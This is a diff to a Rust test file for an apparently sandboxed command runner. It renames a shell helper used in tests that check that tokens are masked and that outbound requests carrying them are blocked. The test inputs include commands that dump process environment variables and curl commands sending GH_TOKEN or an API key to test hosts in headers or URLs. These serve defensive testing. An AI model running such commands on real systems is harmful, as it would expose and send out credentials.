@@ -9,15 +9,12 @@ use std::path::Path;
 use serde_json::{Value, json};
 
 use super::origin::{Dns, Origin, Pki};
+use super::support::sh_call;
 use super::support::{Sandbox, Session, host_git, live_processes_with};
 
 /// The token git's origin requires, and the key the echo origin is sent.
 const GH_TOKEN: &str = "ghp_R3alT0kenV4lue0123456789abcdefghijKL";
 const ECHO_KEY: &str = "sk-proj-EchoKeyReal0123456789abcdef";
-
-fn sh(script: &str) -> Value {
-    json!({"command": ["sh", "-c", script]})
-}
 
 fn out(r: &Value) -> String {
     format!(
@@ -201,7 +198,7 @@ async fn git_pushes_with_a_token_the_commands_never_see() {
     for args in [
         json!({"command": ["env"]}),
         // Past the argument checks (sh -c), so that only the view stands in the way.
-        sh("cat /proc/self/environ | tr '\\0' '\\n'"),
+        sh_call("cat /proc/self/environ | tr '\\0' '\\n'"),
         json!({"command": ["python3", "-c", "import os; print(os.environ['GH_TOKEN'], os.environ['ECHO_KEY'])"]}),
     ] {
         let r = s.call("run_command", args.clone()).await;
@@ -251,7 +248,7 @@ async fn git_pushes_with_a_token_the_commands_never_see() {
         format!("curl -sS {echo_url}"),
         format!("curl -sS -H \"Authorization: Bearer $ECHO_KEY\" {echo_url}"),
     ] {
-        let r = s.call("run_command", sh(&script)).await;
+        let r = s.call("run_command", sh_call(&script)).await;
         let text = out(&r);
         assert!(text.contains("authorization: Bearer ****"), "{script}: {r}");
         assert!(!text.contains(ECHO_KEY), "{script}: {r}");
@@ -272,7 +269,7 @@ async fn git_pushes_with_a_token_the_commands_never_see() {
     let r = s
         .call(
             "run_command",
-            sh(&format!(
+            sh_call(&format!(
                 "curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-Token: $GH_TOKEN\" {echo_url}"
             )),
         )
@@ -284,7 +281,7 @@ async fn git_pushes_with_a_token_the_commands_never_see() {
         "the request never reached the echo host"
     );
     let r = s
-        .call("run_command", sh(&format!("curl -sS -o /dev/null -w '%{{http_code}}' \"http://plain.cred.test:{}/?t=$GH_TOKEN\"", plain.port)))
+        .call("run_command", sh_call(&format!("curl -sS -o /dev/null -w '%{{http_code}}' \"http://plain.cred.test:{}/?t=$GH_TOKEN\"", plain.port)))
         .await;
     assert_eq!(out(&r).trim(), "403", "{r}");
     let refused: Vec<Value> = network(&sb)
@@ -312,7 +309,7 @@ async fn git_pushes_with_a_token_the_commands_never_see() {
         ),
     ] {
         let seen = (echo.seen().len(), git_origin.seen().len());
-        let r = s.call("run_command", sh(&script)).await;
+        let r = s.call("run_command", sh_call(&script)).await;
         assert_eq!(out(&r).trim(), "403", "{script}: {r}");
         assert_eq!(
             (echo.seen().len(), git_origin.seen().len()),
